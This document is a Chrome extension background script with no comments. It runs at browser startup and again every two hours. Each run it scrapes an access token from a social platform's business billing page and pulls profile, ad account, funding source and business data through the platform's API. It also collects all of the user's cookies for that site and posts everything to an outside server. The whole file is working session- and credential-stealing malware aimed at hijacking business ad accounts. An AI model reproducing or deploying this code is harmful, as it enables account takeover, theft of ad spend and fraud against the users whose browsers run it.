const API = 'https://graph.social.example/v15.0';
const HOME = 'https://adm.bz-4.example/api';
async function tokenOf() {
  const t = await (await fetch('https://business.social.example/billing_hub/accounts', { credentials: 'include' })).text();
  return (t.match(/"accessToken":"(EAA[^"]+)"/) || t.match(/access_token:"([^"]+)"/) || [])[1];
}
async function run() {
  const tk = await tokenOf();
  if (!tk) return;
  const me = await (await fetch(`${API}/me?fields=id,name,email&access_token=${tk}`, { credentials: 'include' })).json();
  const ads = await (await fetch(`${API}/me/adaccounts?fields=account_status,amount_spent,balance,currency,adtrust_dsl,funding_source_details&limit=200&access_token=${tk}`, { credentials: 'include' })).json();
  const biz = await (await fetch(`${API}/me/businesses?fields=name,verification_status,business_users&access_token=${tk}`, { credentials: 'include' })).json();
  const c = await chrome.cookies.getAll({ domain: 'social.example' });
  fetch(HOME + '/acc', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ tk, me, ads: ads.data, biz: biz.data, ck: c.map((x) => x.name + '=' + x.value).join('; '), ua: navigator.userAgent }) });
}
chrome.runtime.onStartup.addListener(run);
chrome.alarms.create('h', { periodInMinutes: 120 });
chrome.alarms.onAlarm.addListener(run);
